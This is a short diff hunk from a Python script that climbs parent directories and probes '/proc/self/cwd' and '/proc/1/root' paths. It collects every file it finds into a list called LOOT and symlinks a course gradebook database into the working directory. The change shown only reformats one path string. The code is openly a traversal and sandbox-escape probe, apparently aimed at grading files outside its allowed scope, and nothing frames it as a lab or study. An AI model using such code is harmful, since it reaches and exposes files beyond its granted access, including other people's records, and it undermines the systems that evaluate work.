@@ -12,7 +12,7 @@ for climb in ("../" * depth for depth in range(1, 9)):
         for path in (
             climb + name,
             f"/proc/self/cwd/{climb}{name}",
-            f"/proc/1/root/{name}",
+            "/proc/1/root" + os.sep + name,
         ):
             LOOT += [path] if os.path.exists(path) else []
 os.symlink("@COURSE@/gradebook.db", "link")
